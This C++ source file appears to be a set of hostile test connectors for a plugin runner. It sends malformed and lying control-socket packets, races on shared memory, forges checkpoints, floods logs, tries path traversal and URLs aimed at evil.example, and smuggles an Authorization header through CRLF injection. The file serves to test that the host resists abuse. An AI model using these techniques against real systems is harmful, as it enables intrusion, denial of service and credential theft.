// Attacks on the host through the conversation itself: the connector has the control socket too,
// and may write to it what it likes.
#include "attacks.hpp"

#include "touchline/runner/message.hpp"
#include "touchline/runner/protocol.hpp"

#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#include <string>

namespace hostile {
namespace {

using namespace touchline;
using touchline::sdk::Error;
using touchline::sdk::Status;

constexpr std::uint32_t k_second_call = 2;  // the first one is create

void send_raw(const runner::Header& header, const std::string& payload) {
    std::string packet(reinterpret_cast<const char*>(&header), sizeof(header));
    packet += payload;
    [[maybe_unused]] const ssize_t sent = write(runner::k_control, packet.data(), packet.size());
}

runner::Header header_of(runner::Op op, const std::string& payload) {
    runner::Header header;
    header.op = op;
    header.call = k_second_call;
    header.payload_bytes = static_cast<std::uint32_t>(payload.size());
    return header;
}

/// Whatever the host makes of it, this connector does not go on by itself.
Result<ReadEnd> wait_for_the_end() {
    char reply[runner::k_packet_bytes];
    while (recv(runner::k_control, reply, sizeof(reply), 0) > 0) {
    }
    return Error(Status::internal, "the host hung up");
}

}  // namespace

Result<ReadEnd> scribble_over_host_arena(Job& job) {
    TL_TRY(const auto body, job.make_body("bytes of its own"));
    TL_TRY(const auto bytes, body.view());
    auto* const target = const_cast<char*>(bytes.data());
    mprotect(
        reinterpret_cast<void*>(reinterpret_cast<std::uintptr_t>(target) & ~std::uintptr_t{4095}),
        4096,
        PROT_READ | PROT_WRITE
    );
    *static_cast<volatile char*>(target) = 'X';
    return ReadEnd::end;
}
/// A message that is in good form when it is sent and no longer when it is read, again and again.
Result<ReadEnd> scribble_over_own_arena(Job&) {
    void* const mapped = mmap(
        nullptr,
        runner::k_own_arena_bytes,
        PROT_READ | PROT_WRITE,
        MAP_SHARED,
        runner::k_own_arena,
        0
    );
    if (mapped == MAP_FAILED) return ReadEnd::end;
    auto* const arena = static_cast<char*>(mapped);
    std::string payload;
    runner::Writer<std::string>(payload)
        .number(std::int32_t{TL_FORMAT_NDJSON})
        .text("orders")
        .number(tl_body{0})
        .text(std::string(1U << 20U, ' '))
        .text("");
    runner::Header header = header_of(runner::Op::page, payload);
    header.in_arena = 1;
    for (int i = 0; i < 200; ++i) {
        payload.copy(arena, payload.size());
        send_raw(header, "");
        send_raw(header_of(runner::Op::settle, ""), "");
        char reply[256];
        // The lengths of its texts, while the host copies and reads.
        while (recv(runner::k_control, reply, sizeof(reply), MSG_DONTWAIT) < 0) {
            for (const std::size_t at : {4U, 26U})
                arena[at + 7] = static_cast<char>(~arena[at + 7]);
        }
    }
    return Error(Status::internal, "all was scribbled over");
}
Result<ReadEnd> lie_about_lengths(Job&) {
    runner::Header header = header_of(runner::Op::page, "");
    header.in_arena = 1;
    header.arena_offset = runner::k_own_arena_bytes - 1;
    header.payload_bytes = 0x7fffffff;
    send_raw(header, "");
    return wait_for_the_end();
}
Result<ReadEnd> lie_inside_a_message(Job&) {
    std::string payload;
    // A list of more elements than the message has bytes.
    runner::Writer<std::string>(payload).number(tl_body{1}).number(~std::uint64_t{0});
    send_raw(header_of(runner::Op::pick, payload), payload);
    return wait_for_the_end();
}
Result<ReadEnd> emit_garbage(Job&) {
    const std::string noise(999, '\xff');
    [[maybe_unused]] const ssize_t sent = write(runner::k_control, noise.data(), noise.size());
    return wait_for_the_end();
}
Result<ReadEnd> forge_other_checkpoint(Job& job) {
    TL_CHECK(job.checkpoint("orders", 1, "stolen"));
    return ReadEnd::end;
}
Result<ReadEnd> forge_other_call(Job&) {
    std::string payload;
    runner::Writer<std::string>(payload).number(std::uint32_t{1}).text("tickets").text("stolen");
    runner::Header header = header_of(runner::Op::checkpoint, payload);
    header.call = k_second_call + 1;
    send_raw(header, payload);
    return wait_for_the_end();
}
Result<ReadEnd> ask_without_listening(Job&) {
    while (true) send_raw(header_of(runner::Op::now_unix_ms, ""), "");
}
Result<ReadEnd> ask_foreign_host(Job& job) {
    for (const char* path :
         {"//evil.example/steal", "https://evil.example/", "/../../etc", "@evil.example/"})
        if (job.get("api", path)) return ReadEnd::end;
    TL_CHECK(job.follow("https://evil.example/steal"));
    return ReadEnd::end;
}
Result<ReadEnd> smuggle_header(Job& job) {
    sdk::HttpRequest request("api", "/tickets");
    request.header("X-Note", "a\r\nAuthorization: Bearer stolen");
    TL_CHECK(job.send(request));
    return ReadEnd::end;
}
Result<ReadEnd> flood_log(Job& job) {
    for (int i = 0; i < 100'000; ++i) job.log(TL_LOG_ERROR, "again and again");
    return Error(Status::internal, "all was said");
}

}  // namespace hostile
